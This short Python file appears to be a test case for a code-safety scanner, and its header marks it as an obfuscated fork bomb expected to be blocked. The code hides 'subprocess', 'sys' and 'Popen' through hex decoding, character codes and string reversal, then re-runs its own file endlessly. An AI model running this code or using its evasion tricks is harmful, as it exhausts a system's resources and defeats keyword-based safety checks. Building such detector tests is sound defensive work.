# expect: BLOCKED category: fork_bomb variant-of: risky/fork_bomb/self_respawn.py technique: encode+getattr
subprocess = __import__(bytes.fromhex('73756270726f63657373').decode())
sys = __import__(''.join(map(chr, [115, 121, 115])))
while True:
    getattr(subprocess, 'nepoP'[::-1])([sys.executable, __file__])
